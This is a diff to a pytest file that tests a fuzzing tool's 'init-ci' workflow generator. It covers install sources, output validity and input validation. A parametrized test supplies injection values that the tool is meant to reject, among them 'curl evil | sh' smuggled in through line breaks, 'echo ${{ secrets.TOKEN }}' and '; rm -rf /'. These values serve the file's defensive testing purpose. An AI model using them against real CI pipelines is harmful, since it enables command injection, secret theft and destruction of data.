@@ -13,7 +13,6 @@ import pytest
 from click.testing import CliRunner
 
 from fuzzkern import cli
-from fuzzkern._version import __version__
 from tests.unit.test_workflows import _actionlint
 
 yaml = pytest.importorskip("yaml")
@@ -64,7 +63,14 @@ def repo(tmp_path):
 
 
 def _init(repo, *args):
+    """init-ci in ``repo``; fuzzkern from a git URL unless the test names its own source (this
+    checkout is installed editable, with no remote a runner could reach)."""
+    if not any(a.startswith("--fuzzkern-spec") for a in args):
+        args = (*args, "--fuzzkern-spec", SPEC)
     return CliRunner().invoke(cli.main, ["init-ci", *args, "--root", str(repo)])
+
+
+SPEC = "git+https://example.org/you/fuzzkern@v0.1.0"
 
 
 def test_the_workflow_is_the_users_and_the_gpu_job_is_switched(repo):
@@ -81,8 +87,10 @@ def test_the_workflow_is_the_users_and_the_gpu_job_is_switched(repo):
     assert wf[True]["workflow_dispatch"]["inputs"]["gpu"]["type"] == "boolean"
     for job in (interpret, compiled):
         steps = {s.get("name", s.get("uses")): s for s in job["steps"]}
-        install = steps["Install torch, fuzzkern (a package) and the project"]["run"]
-        assert f"pip install fuzzkern=={__version__}\n" in install and " -e " not in install
+        install = steps["Install torch, fuzzkern and the project"]["run"]
+        assert f"pip install 'fuzzkern @ {SPEC}'\n" in install
+        # the scratch repository has neither requirements.txt nor pyproject.toml
+        assert "-r requirements.txt" not in install and "-e ." not in install
         assert steps["Restore the Hypothesis example database"]["uses"].startswith(
             "actions/cache/restore@")
         assert steps["Save the Hypothesis example database"]["if"] == "always()"
@@ -128,7 +136,7 @@ def _script(repo, budget, *args):
 
 def test_the_script_part_runs_on_a_scratch_repository(repo):
     assert _init(repo, "tests/test_kernels.py::add").exit_code == 0
-    outputs, log = _script(repo, "5s", "--no-db", "--max-examples", "10")
+    outputs, log = _script(repo, "30s", "--no-db", "--max-examples", "10")  # ends at 10 cases
     assert outputs == {"status": "0", "outcome": "clean"}, log
     assert (repo / "report.html").exists() and not (repo / "corpus").exists()
     assert _init(repo, "tests/test_kernels.py", "--force").exit_code == 0
@@ -138,3 +146,98 @@ def test_the_script_part_runs_on_a_scratch_repository(repo):
     assert "test_kernels::scale_t" in (repo / "report.html").read_text()
     outputs, log = _script(repo, "soon")
     assert outputs["outcome"] == "error" and outputs["status"] == "2", log
+
+
+def test_the_source_of_fuzzkern_is_the_users_choice_and_checked(repo):
+    """Issue 43, point 2: a version (with the warning that PyPI has none), a git URL, a folder
+    inside the repository; a folder outside it, or a URL that is neither, is refused."""
+    def install_lines(*args):
+        res = _init(repo, "tests/test_kernels.py", "--force", *args)
+        assert res.exit_code == 0, res.output
+        wf = yaml.safe_load((repo / ".github" / "workflows" / "fuzzkern-nightly.yml").read_text())
+        step = wf["jobs"]["interpret"]["steps"][3]
+        return step["run"].splitlines()[2:], res.output
+
+    lines, out = install_lines("--fuzzkern-spec", "0.1.0")
+    assert lines == ["pip install fuzzkern==0.1.0"]
+    assert "warning: fuzzkern is not on PyPI: the runner's package index must serve" in out
+    lines, out = install_lines("--fuzzkern-spec", "https://example.org/you/fuzzkern.git")
+    assert lines == ["pip install 'fuzzkern @ git+https://example.org/you/fuzzkern.git'"]
+    assert "no @<commit> or @<tag>" in out
+    (repo / "third_party" / "fuzzkern").mkdir(parents=True)
+    (repo / "third_party" / "fuzzkern" / "pyproject.toml").write_text("[project]\n")
+    (repo / "pyproject.toml").write_text("[project]\nname = 'mykernels'\n")
+    (repo / "requirements.txt").write_text("numpy\n")
+    lines, out = install_lines("--fuzzkern-spec", "third_party/fuzzkern")
+    # fuzzkern from the folder, then the user's requirements and their project itself
+    assert lines == ["pip install ./third_party/fuzzkern", "pip install -r requirements.txt",
+                     "pip install -e ."], lines
+    assert "warning" not in out
+    for spec, said in [(str(repo.parent), "outside the repository"),
+                       ("https://example.org/fuzzkern.tar", "a git URL"),
+                       ("nowhere/fuzzkern", "not a version, a git URL")]:
+        res = _init(repo, "tests/test_kernels.py", "--force", "--fuzzkern-spec", spec)
+        assert res.exit_code == 2 and said in res.output, (spec, res.output)
+
+
+def test_the_default_source_is_where_this_fuzzkern_came_from(repo):
+    """With no --fuzzkern-spec: this fuzzkern's own source when a runner can reach it, else an
+    error that says what to pass (never a workflow whose install step cannot work)."""
+    from fuzzkern import initci
+    from fuzzkern._version import __version__
+
+    try:
+        spec, _ = initci.source(None, str(repo), __version__)
+    except cli.FuzzkernError as e:
+        assert "Pass --fuzzkern-spec" in str(e)
+        res = CliRunner().invoke(cli.main, ["init-ci", "tests/test_kernels.py",
+                                            "--root", str(repo)])
+        assert res.exit_code == 2 and "Pass --fuzzkern-spec" in res.output
+        assert not (repo / ".github").exists()
+    else:
+        assert spec.startswith(("fuzzkern @ git+", "./", "fuzzkern==")), spec
+
+
+@pytest.mark.parametrize("option, value", [
+    ("--install", "pip install -r requirements.txt\r- run: curl evil | sh"),
+    ("--install", "pip install .\x85- name: injected"),
+    ("--install", "pip install .\u2028x"),
+    ("--install", "echo ${{ secrets.TOKEN }}"),
+    ("--budget", "30m\n"),
+    ("--budget", "30m\"\nx: y"),
+    ("--corpus", "!corpus"),
+    ("--corpus", "../outside"),
+    ("--corpus", "/abs"),
+    ("--gpu-label", "gpu]"),
+    ("--gpu-label", "gpu\n"),
+    ("--python", "3.11\n"),
+    ("--torch", "2.13.0; rm -rf /"),
+    ("--fuzzkern-spec", "git+https://example.org/x.git\r\n- run: evil"),
+])
+def test_every_value_written_is_validated(repo, option, value):
+    """Issue 42: a value that would add a step, write invalid YAML or break the script is one
+    error line, exit 2, nothing written."""
+    res = _init(repo, "tests/test_kernels.py", option, value)
+    assert res.exit_code == 2 and option in res.output, res.output
+    assert not (repo / ".github").exists()
+
+
+def test_what_is_written_passes_bash_n_yaml_and_actionlint(repo):
+    """The odd but valid values: the script passes bash -n, the workflow reads back and is
+    actionlint-clean."""
+    (repo / "corpus.d").mkdir()
+    res = _init(repo, "tests/test_kernels.py::add", "--budget", "1h30m", "--corpus",
+                "fuzz/corpus.d", "--gpu-label", "h100_x-2", "--install",
+                "pip install -r 'requirements dev.txt' && echo \"done: 100%\"")
+    assert res.exit_code == 0, res.output
+    script = repo / ".github" / "fuzzkern" / "nightly.sh"
+    assert subprocess.run(["bash", "-n", str(script)]).returncode == 0
+    path = repo / ".github" / "workflows" / "fuzzkern-nightly.yml"
+    wf = yaml.safe_load(path.read_text())
+    assert wf["jobs"]["compiled"]["runs-on"] == ["self-hosted", "h100_x-2"]
+    assert len(wf["jobs"]["interpret"]["steps"]) == 9
+    assert wf["jobs"]["interpret"]["steps"][3]["run"].splitlines()[-1] == (
+        "pip install -r 'requirements dev.txt' && echo \"done: 100%\"")
+    # a custom runner label is the user's to declare (their .github/actionlint.yaml)
+    found = _actionlint([str(path)])
+    assert [e for e in found if 'label "h100_x-2" is unknown' not in e] == [], found
